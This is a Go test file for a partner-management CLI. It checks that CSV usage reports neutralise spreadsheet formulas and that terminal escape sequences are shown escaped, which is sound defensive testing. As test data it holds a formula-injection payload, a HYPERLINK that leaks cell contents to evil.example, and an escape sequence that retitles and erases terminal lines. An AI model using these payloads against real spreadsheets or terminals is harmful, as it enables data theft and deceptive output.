package main

import (
	"context"
	"encoding/csv"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/exopartner/exopartner/wrapper"
	"github.com/exopartner/exopartner/wrapper/partnertest"
	usagereport "github.com/exopartner/exopartner/wrapper/report"
)

// evilName rewrites a terminal's title, erases the line and returns to its
// start: printed raw, the table would show something else than the data.
const evilName = "\x1b]0;pwned\x07\x1b[2K\rEvil AG"

// rawControl reports whether s carries a control character a terminal
// would obey (anything below space but the table's newlines).
func rawControl(s string) bool {
	return strings.ContainsFunc(s, func(r rune) bool { return r < 0x20 && r != '\n' || r == 0x7f || r >= 0x80 && r < 0xa0 })
}

// TestUsageReportCSVFormulasNeutralised: finance opens the CSV in Excel:
// a client-id =HYPERLINK(…), a billing name @SUM(…) and a product =1+1 reach
// it as text (leading '), the negative amounts as numbers.
func TestUsageReportCSVFormulasNeutralised(t *testing.T) {
	t.Parallel()
	srv := reportServer(t)
	hyperlink := `=HYPERLINK("http://evil.example/?leak="&A1,"x")`
	org := srv.Seed(wrapper.Organization{Status: wrapper.StatusActive, ClientID: hyperlink,
		BillingAddress: wrapper.BillingAddress{Name: "@SUM(1+1)", StreetName: "Main", City: "Geneva", PostalCode: "1217", Country: "CH"}})
	if err := newClient(t, srv).ApplyMetering(context.Background(), org.ID, []wrapper.UsageRecord{{Product: "=1+1", Variable: "+v", Quantity: -3.5}}); err != nil {
		t.Fatal(err)
	}
	r := runCLI(t, envOf(srv), "usage-report", "--period", wrapper.PeriodOf(reportNow).String(), "--format", "csv")
	if r.code != 0 || r.stderr != "" {
		t.Fatalf("exit %d, stderr:\n%s", r.code, r.stderr)
	}
	recs, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("%v:\n%s", err, r.stdout)
	}
	col := func(name string) string { return recs[1][slices.Index(usagereport.Columns(), name)] }
	for name, want := range map[string]string{"client-id": "'" + hyperlink, "name": "'@SUM(1+1)", "product": "'=1+1", "variable": "'+v", "quantity": "-3.5"} {
		if got := col(name); got != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
	if got := col("total-excl-vat"); !strings.HasPrefix(got, "-") {
		t.Errorf("total-excl-vat %q: want the negative number as it is", got)
	}
}

// TestHumanOutputEscapesControlSequences: a billing name and a client-id
// carrying escape sequences are shown escaped in every table, plan and
// message, never sent raw to the terminal.
func TestHumanOutputEscapesControlSequences(t *testing.T) {
	t.Parallel()
	srv := reportServer(t)
	org := srv.Seed(wrapper.Organization{Status: wrapper.StatusActive, ClientID: "crm-\x1b[31mred",
		BillingAddress: wrapper.BillingAddress{Name: evilName, StreetName: "Main", City: "Geneva", PostalCode: "1217", Country: "CH"}})
	crm := writeCRM(t, crmHeader+crmLine("crm-1", "active"))
	shown := `\x1b]0;pwned\a\x1b[2K\rEvil AG`
	for _, args := range [][]string{
		{"list-distributor-organizations"},
		{"get-distributor-organization", org.ID.String()},
		{"usage-report", "--period", lastMonth, "--format", "table"},
		{"sync", "--file", crm},
	} {
		r := runCLI(t, envOf(srv), args...)
		if r.code != 0 || rawControl(r.stdout) || rawControl(r.stderr) || !strings.Contains(r.stdout, `crm-\x1b[31mred`) {
			t.Errorf("%s: exit %d, stdout %q, stderr %q", args[0], r.code, r.stdout, r.stderr)
		}
		if args[0] != "usage-report" && !strings.Contains(r.stdout, shown) {
			t.Errorf("%s: stdout %q does not show the name escaped", args[0], r.stdout)
		}
	}

	// An API's error message is text from the network too.
	srv.InjectFault("get-distributor-organization", 1, partnertest.Fault{Status: http.StatusBadRequest, Body: `{"message": "bad \u001b[2K\r\u009b31m request"}`})
	r := runCLI(t, envOf(srv), "get-distributor-organization", org.ID.String())
	if r.code != 1 || rawControl(r.stderr) || !strings.Contains(r.stderr, `bad \x1b[2K\r\u009b31m request`) {
		t.Errorf("exit %d, stderr %q", r.code, r.stderr)
	}
}
